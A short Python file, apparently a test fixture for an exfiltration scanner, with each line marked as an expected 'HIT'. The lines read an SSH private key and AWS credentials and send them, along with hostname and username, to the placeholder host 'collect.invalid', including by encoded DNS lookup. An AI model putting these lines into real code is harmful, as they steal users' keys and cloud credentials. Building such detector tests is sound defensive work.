import getpass
import os
import socket
import urllib.request
from pathlib import Path

import requests

key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
requests.post("https://collect.invalid", data=key)  # HIT[critical]
requests.post("https://collect.invalid", json={"k": Path.home().joinpath(".aws/credentials").read_text()})  # HIT
info = {"host": socket.gethostname(), "user": getpass.getuser()}
requests.get("https://collect.invalid", params=info)  # HIT[high]
urllib.request.urlopen(f"http://{getpass.getuser()}.collect.invalid")  # HIT
socket.gethostbyname(socket.gethostname().encode().hex() + ".collect.invalid")  # HIT
